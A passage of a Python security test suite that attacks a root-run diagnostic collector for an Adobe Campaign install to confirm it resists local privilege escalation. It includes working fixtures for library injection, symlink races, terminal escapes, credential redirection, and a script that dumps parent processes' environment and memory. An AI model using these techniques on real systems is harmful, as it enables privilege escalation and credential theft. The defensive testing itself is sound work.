def swapped_log():
    tree_make()
    write(f"{TREE}/var/prod/log/web.log", "", ACCOUNTS["neolane"])
    hidden = f"{TREE}/var/prod/hidden"
    link("/root/private/prod/log", hidden, ACCOUNTS["neolane"])
    own(TREE, ACCOUNTS["neolane"])
    swap = Swapper("neolane", f"{TREE}/var/prod/log", hidden)
    for _ in range(15):
        collect("--no-commands")
    swap.stop()


def fifos_and_sockets():
    tree_make()
    for name in ("conf/config-fifo.xml", "var/prod/log/web.log", "env2.sh"):
        os.mkfifo(f"{TREE}/{name}", 0o666)
    os.remove(f"{TREE}/customer.sh")
    os.mkfifo(f"{TREE}/customer.sh")
    os.remove(f"{TREE}/conf/serverConf.xml")
    heard = Listener("any", f"{TREE}/conf/serverConf.xml")
    own(TREE, ACCOUNTS["neolane"])
    run = collect(seconds=30)
    heard.stop()
    return ["root's run waits for ever"] if run.late else []


def output_planted():
    tree_make()
    name = f"/tmp/acc-victim-{time.strftime('%Y%m%dT%H%M%SZ', time.gmtime(int(CLOCK)))}.tar.gz"
    reached = []
    link("/etc/planted", name, ACCOUNTS["stranger"])
    collect(output="/tmp")
    if os.path.exists("/etc/planted"):
        os.remove("/etc/planted")
        reached.append("the bundle was written through a link")
    os.remove(name)
    write(name, "", ACCOUNTS["stranger"], 0o666)
    collect(output="/tmp")
    if os.path.getsize(name):
        reached.append("the bundle was written into a file of the stranger's")
    return reached


def output_names_made_before():
    tree_make()
    write("/etc/target", "untouched\n")

    def plant(process):
        for kind in ("part", "spool"):
            for number in range(3):
                path = f"/tmp/.acc-{kind}-{process.pid}-{number}"
                try:
                    link("/etc/target", path, ACCOUNTS["stranger"])
                except OSError:
                    pass

    for kind in ("part", "spool"):
        link("/etc/target", f"/tmp/.acc-{kind}-1-1", ACCOUNTS["stranger"])
        os.mkfifo(f"/tmp/.acc-{kind}-1-2")
        os.link("/etc/target", f"/tmp/.acc-{kind}-1-3")
    run = collect(output="/tmp/mine.tar.gz", started=plant, seconds=30)
    with open("/etc/target", encoding="ascii") as file:
        good = file.read() == "untouched\n"
    return ([] if good else ["a file of root's was overwritten"]) + (
        ["root's run waits for ever"] if run.late else [])


def words_for_the_terminal():
    """What it prints shall not move root's terminal or name another command."""
    tree_make(nlserver="print('\\x1b]0;owned\\x07\\x1b[2J')\n")
    write(f"{TREE}/conf/config-\x1b[31m.xml", "<broken", ACCOUNTS["neolane"])
    run = collect("-v")
    return ["control characters came to the terminal"] if (
        b"\x1b" in run.out) else []


def ordinary_account():
    """dba collects as itself, beside what a stranger has put there."""
    tree = "/tmp/nl6"
    write(f"{tree}/conf/serverConf.xml", "<serverConf/>\n")
    write(f"{tree}/bin/nlserver", script(""), mode=0o755)
    own(tree, ACCOUNTS["stranger"])
    folder("/opt/tools", 0, 0o777)
    write("/opt/tools/psql", script(""), ACCOUNTS["stranger"], 0o755)
    write("/home/dba/tools/java", script(""), ACCOUNTS["dba"], 0o777)
    folder("/home/dba/tools", ACCOUNTS["dba"], 0o777)
    write("/home/dba/tools/psql", script(""), ACCOUNTS["dba"], 0o755)
    for more in ([], ["--nlserver", "/home/dba/tools/java"]):
        collect("--install-dir", tree, *more, *database(), user="dba",
                output="/home/dba/out.tar.gz",
                env={"PATH": "/opt/tools:/home/dba/tools:/usr/bin:/bin",
                     "HOME": "/home/dba"})
    with open(f"{EVIDENCE}/ran", encoding="utf-8") as file:
        return ["it ran as dba"] if "1003" in file.read() else []


def ordinary_parents():
    """dba owns the tree, and collects: its nlserver is no friend of it."""
    tree_make(owner=ACCOUNTS["dba"], nlserver=PARENTS + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for name in os.listdir("/proc/self/fd"):
    try:
        if int(name) > 2:
            os.set_blocking(int(name), False)
            note("descriptor", repr(os.read(int(name), 4096)))
    except OSError:
        pass
for pid in parents():
    for name in ("environ", *("fd/%d" % n for n in range(3, 20))):
        try:
            at = os.open(f"/proc/{pid}/{name}", os.O_RDONLY | os.O_NONBLOCK)
            note("read", repr(os.read(at, 100000)))
        except OSError:
            pass
    try:
        with open(f"/proc/{pid}/maps") as maps, \\
                open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                low, high = (int(n, 16) for n in line.split()[0].split("-"))
                if high - low < 1 << 24:
                    try:
                        mem.seek(low)
                        note("memory", repr(mem.read(high - low)))
                    except (OSError, OverflowError):
                        pass
    except OSError:
        pass
""")
    for more in ({"password": SECRET}, {"env": {"PGPASSWORD": SECRET}}):
        collect(*database(host="127.0.0.1", port=1), user="dba",
                output="/home/dba/out.tar.gz", **more)


# ---- what has to go on working ----

def ran():
    with open(f"{EVIDENCE}/ran", encoding="utf-8") as file:
        return file.read()


def honest_owner():
    """Campaign's own commands, with the libraries that its scripts name."""
    tree_make(customer="LD_LIBRARY_PATH=$XTK_INSTALL_DIR/lib64\n")
    folder(f"{TREE}/lib64")
    shutil.copy("/opt/pieces/evil.so", f"{TREE}/lib64/libvendor.so")
    vendor_install(f"{TREE}/bin/nlserver")
    own(TREE, ACCOUNTS["neolane"])
    run = collect()
    return run.status == 0 and ran() == "library 1001 1001\n" * 2


def honest_group():
    """Debian's root:staff /usr/local, with nobody in staff."""
    tree_make()
    folder("/usr/local", 0, 0o2775, 50)
    folder("/usr/local/bin", 0, 0o2775, 50)
    write("/usr/local/bin/java", script("print('openjdk 1.8')\n"), 0, 0o755)
    collect()
    folder("/usr/local")
    return "java 65534 65534" in ran()


def honest_password():
    """The account that root has named is given it, and its server."""
    good = Listener("postgresql")
    tree_make()
    collect(*database(host="127.0.0.1", port=good.port), "--db-account", "dba",
            password=SECRET, env={"PATH": real_psql() + ":/usr/bin:/bin"})
    good.stop()
    return SECRET.encode() in b"".join(HEARD)


def honest_variable():
    good = Listener("mysql")
    tree_make()
    collect(*database("mysql", host="127.0.0.1", port=good.port),
            "--db-account", "1003", env={"MYSQL_PWD": SECRET})
    good.stop()
    return SECRET.encode() in b"".join(HEARD)


def honest_own_file():
    """Nobody named: the tree's owner, with what is his own."""
    good = Listener("postgresql")
    tree_make(customer=f"PGHOST=127.0.0.1\nPGPORT={good.port}\n")
    write("/home/neolane/.pgpass", f"*:*:*:*:{SECRET}\n",
          ACCOUNTS["neolane"], 0o600)
    collect(*database(), env={"PATH": real_psql() + ":/usr/bin:/bin"})
    good.stop()
    return SECRET.encode() in b"".join(HEARD)


def honest_oracle():
    """The owner of an Oracle home, named by root."""
    tree_make(customer="export ORACLE_HOME=/opt/oracle\n")
    write("/opt/oracle/bin/sqlplus",
          script("note('heard', sys.stdin.read() + os.environ"
                 "['ORACLE_HOME'])\n"), mode=0o755)
    own("/opt/oracle", ACCOUNTS["dba"])
    collect(*database("oracle", host="127.0.0.1"), "--db-account", "dba",
            password=SECRET)
    return "sqlplus 1003 1003" in ran() and SECRET in ran() and (
        "/opt/oracle" in ran())


def honest_refusals():
    """What is not handed over, and why, is told with the mend."""
    tree_make()
    write("/usr/local/bin/sqlplus", script(""), mode=0o755)
    first = collect(*database("oracle", host="127.0.0.1"), password=SECRET)
    folder("/usr/local/bin", 0, 0o777)
    second = collect(*database("oracle", host="127.0.0.1"), "--db-account",
                     "dba", password=SECRET)
    own(TREE, 0)
    folder("/usr/local/bin")
    third = collect(*database("oracle", host="127.0.0.1"))
    fourth = collect(*database("oracle"), "--db-account", "root")
    return (b"neolane owns the Campaign directory" in first.out and
            b"--db-account" in first.out and
            b"every account can write /usr/local/bin" in second.out and
            b"name one that is not root with --db-account" in third.out and
            fourth.status == 64 and ran().count("sqlplus") == 0)


HONEST = [
    (honest_owner, "Campaign's commands run as their owner, with his "
     "libraries"),
    (honest_group, "a group without members is nobody"),
    (honest_password, "a password goes to the account that root names"),
    (honest_variable, "so does one in the client's variable"),
    (honest_own_file, "without one the owner's own file counts"),
    (honest_oracle, "an Oracle home is used as the account that owns it"),
    (honest_refusals, "what is refused is told with its mend"),
]


# ---- the table ----

# The attack, in words, who makes it, whether it succeeded before (None: now
# and then, it is a race).
ATTACKS = [
    (library_of_customer, "LD_LIBRARY_PATH of customer.sh: a library's "
     "constructor in the database client", "owner", True),
    (library_preloaded, "LD_PRELOAD and LD_AUDIT of customer.sh", "owner",
     False),
    (library_in_roots_tree, "a stranger's library in the lib of root's tree",
     "stranger", True),
    (library_linked_in_roots_tree, "a link there to a library of his",
     "stranger", True),
    (path_of_root, "programs in a folder of root's PATH that all may write",
     "stranger", False),
    (java_of_customer, "JDK_HOME of customer.sh: a java of his", "owner",
     False),
    (sqlplus_of_customer, "ORACLE_HOME of customer.sh: a sqlplus that listens",
     "owner", True),
    (program_of_a_group, "a member of the group that may write /usr/local/bin",
     "stranger", False),
    (program_with_a_list, "an access control list on nlserver", "stranger",
     False),
    (interpreter_of_a_stranger, "the interpreter of a script of root's",
     "stranger", True),
    (interpreter_by_env, "the same, found by env on a PATH of the tree",
     "stranger", False),
    (name_in_tmp, "another name in /tmp for a program of root's", "stranger",
     True),
    (setuid_collector, "a collector that is installed set-uid", "stranger",
     True),
    (account_back_to_root, "an account that is taken back, root's group",
     "owner", True),
    (service_of_customer, "PGSERVICEFILE of customer.sh, stronger than "
     "--db-host", "owner", True),
    (service_of_a_folder, "PGSYSCONFDIR of customer.sh, the same", "owner",
     True),
    (passwords_of_roots_home, "PGHOST of customer.sh: root's .pgpass sent to "
     "another server", "owner", True),
    (passwords_of_a_named_file, "PGPASSFILE of customer.sh names root's file",
     "owner", True),
    (options_of_mysql, "MYSQL_HOME of customer.sh: root's .my.cnf sent to "
     "another server", "owner", True),
    (library_of_oracle, "the library of an ORACLE_HOME", "owner", True),
    (neighbour_watches, "looking into the client's process", "owner", False),
    (terminal_typed, "TIOCSTI: a command typed into root's terminal", "owner",
     True),
    (descriptors_inherited, "descriptors that nlserver inherits", "owner",
     True),
    (parent_environment, "the environment of its parents", "owner", False),
    (parent_memory, "the memory of its parents, ptrace", "owner", False),
    (signals_to_parents, "signals to its parents", "owner", False),
    (process_left_behind, "a process that outlives the run", "owner", True),
    (collector_killed, "processes that outlive a SIGKILL", "owner", True),
    (tree_is_etc, "nl5 -> /etc, config-x.xml -> /etc/shadow", "owner", True),
    (tree_is_another_application, "nl5 -> a folder of root's with a conf",
     "owner", True),
    (link_to_shadow, "files that are links to /etc/shadow", "owner", False),
    (link_instead_of_conf, "conf is a link", "owner", False),
    (link_hard, "hard links", "owner", False),
    (link_of_a_chain, "links into a folder that is followed, and out of it",
     "owner", False),
    (var_elsewhere, "XTK_VAR_DIR names a folder of root's", "owner", True),
    (var_linked, "var is a link to it", "owner", True),
    (log_linked, "logs are links to it", "owner", False),
    (image_with_links, "--root: links out of the image", "owner", False),
    (swapped_file, "a file exchanged for a link while it is read", "owner",
     None),
    (swapped_folder, "a folder exchanged for a link", "owner", None),
    (swapped_tree, "the tree exchanged for a link", "owner", None),
    (swapped_log, "a folder of logs exchanged for a link", "owner", None),
    (fifos_and_sockets, "fifos and sockets for files", "owner", False),
    (output_planted, "a link and a file at the bundle's name", "stranger",
     False),
    (output_names_made_before, "the names of our own files made before",
     "stranger", False),
    (words_for_the_terminal, "escape sequences in names and output", "owner",
     False),
    (ordinary_account, "the same against an account that is not root",
     "stranger", True),
    (ordinary_parents, "descriptors and parents of an account that is not root",
     "owner", True),
]


def attack(function):
    RUNS.clear()
    HEARD.clear()
    system_make()
    more = function() or []
    return sorted(set(judge()) | set(more))


def inside(new, binary, pieces, words):
    world_make(new, binary, pieces)
    before = "--before" in words
    parts = [word for word in words if not word.startswith("--")]
    passed = failed = succeeded = 0
    for function, sentence, who, was in ATTACKS:
        if parts and not any(part in function.__name__ for part in parts):
            continue
        try:
            reached = attack(function)
        except Exception:  # an attack that could not be made is not refused
            failed += 1
            print(f"FAILED  {function.__name__}: it could not be made\n"
                  f"{traceback.format_exc()}", flush=True)
            continue
        if "--show" in words:
            print(evidence().decode(errors="replace")[:2000])
            for run in RUNS:
                print(run.status, run.out.decode(errors="replace"))
        succeeded += bool(reached)
        good = was in (None, bool(reached)) if before else not reached
        passed += good
        failed += not good
        print(f"{'ok     ' if good else 'FAILED '} {who}: {sentence}"
              f"{': ' if reached else ''}{', '.join(reached)}", flush=True)
    print(f"{succeeded} of the attacks succeeded")
    for function, sentence in [] if before else HONEST:
        if parts and not any(part in function.__name__ for part in parts):
            continue
        RUNS.clear()
        HEARD.clear()
        system_make()
        good = function()
        passed += good
        failed += not good
        print(f"{'ok     ' if good else 'FAILED '} {sentence}", flush=True)
        if not good or "--show" in words:
            for run in RUNS:
                print(run.status, run.out.decode(errors="replace"))
            print(ran())
    print(f"{passed} passed, {failed} failed")
    return 1 if failed else 0


def pieces_make(where):
    """The attacker's library, and a vendor's program that needs one."""
    def compiled(*words):
        subprocess.run(["cc", "-O1", *words], check=True, cwd=HERE)

    compiled("-shared", "-fPIC", "evil.c", "-o", f"{where}/evil.so")
    compiled("-shared", "-fPIC", "-DLIBRARY", "vendor.c", "-o",
             f"{where}/libvendor.so", "-Wl,-soname,libvendor.so")
    compiled("vendor.c", f"{where}/libvendor.so", "-o", f"{where}/vendor",
             "-Wl,--enable-new-dtags,-rpath,/usr/local/vendor")
    with open(f"{where}/evil.py", "w", encoding="ascii") as file:
        file.write(script(""))


def main():
    words = sys.argv[1:]
    if words[:1] == ["--inside"]:
        return inside(words[1], words[2], words[3], words[4:])
    work = tempfile.mkdtemp(prefix="acc-attack-")
    os.chmod(work, 0o755)
    try:
        os.mkdir(f"{work}/new")
        os.mkdir(f"{work}/pieces")
        alone = ["unshare", "--mount", "--pid", "--ipc", "--fork",
                 "--kill-child", "--propagation", "private"]
        tried = subprocess.run([*alone, "true"], check=False)
        if os.geteuid() != 0 or tried.returncode != 0:
            print("FAILED  the attacks need root, and mount and pid "
                  "namespaces: run as root, outside of a container that "
                  "forbids unshare\n0 passed, 1 failed")
            return 1
        pieces_make(f"{work}/pieces")
        return subprocess.run(
            [*alone, "/usr/bin/python3", "-B", os.path.abspath(__file__),
             "--inside", f"{work}/new", os.path.abspath(words[0]),
             f"{work}/pieces", *words[1:]], check=False).returncode
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
